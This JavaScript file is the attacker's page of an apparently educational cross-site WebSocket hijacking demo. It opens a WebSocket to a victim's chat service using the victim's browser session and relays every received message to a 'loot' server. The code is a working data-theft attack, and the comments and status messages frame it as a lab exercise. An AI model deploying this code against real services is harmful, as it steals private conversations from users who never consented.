// The attacker's page. It waits for orders, opens the victim's chat and hands everything it reads to its own server.

const KEPT = 12;

const loot = new WebSocket(`wss://${location.host}${location.pathname.replace("/attack/", "/loot/")}`);

loot.onmessage = async ({ data }) => {
  const { target, recorder } = JSON.parse(data);
  document.getElementById("target").textContent = target;
  if (recorder !== null) await ended(new WebSocket(recorder)); // notes which cookies this browser sends there
  attack(target);
};
loot.onclose = () => tell("Its server is gone.", "");

function attack(target) {
  const socket = new WebSocket(target);
  let opened = false;
  socket.onopen = () => {
    opened = true;
    tell("The socket is open. This page now reads:", "reading");
  };
  socket.onmessage = ({ data }) => {
    report({ event: "received", frame: data });
    show(data);
  };
  socket.onclose = ({ code }) => {
    report({ event: "closed" });
    tell(opened ? `The socket was closed (${code}).` : `Refused. All this page learns is “error”, close code ${code}.`, "closed");
  };
}

function ended(socket) {
  return new Promise((resolve) => {
    socket.onclose = resolve;
  });
}

function report(what) {
  if (loot.readyState === WebSocket.OPEN) loot.send(JSON.stringify(what));
}

function show(frame) {
  const list = document.getElementById("stolen");
  const item = document.createElement("li");
  item.textContent = frame;
  list.append(item);
  if (list.children.length > KEPT) list.firstElementChild.remove();
  list.hidden = false;
}

function tell(text, result) {
  const line = document.getElementById("result");
  line.textContent = text;
  line.dataset.result = result;
}
